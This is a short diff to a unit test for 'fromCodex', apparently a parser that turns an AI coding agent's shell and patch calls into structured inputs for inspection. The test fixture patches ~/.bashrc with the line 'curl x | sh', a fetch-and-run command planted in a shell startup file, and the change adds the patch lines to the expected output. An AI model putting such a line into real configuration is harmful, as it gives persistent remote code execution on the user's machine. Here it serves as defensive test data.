@@ -79,7 +79,7 @@ describe('fromCodex', () => {
       "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: ~/.bashrc\n+curl x | sh\n*** End Patch\nEOF";
     expect(inputs(fromCodex('shell', { command }))).toEqual([
       { kind: 'shell', command },
-      { kind: 'edit', path: '~/.bashrc' },
+      { kind: 'edit', path: '~/.bashrc', change: { kind: 'patch', lines: ['+curl x | sh'], add: true } },
     ]);
   });
 });
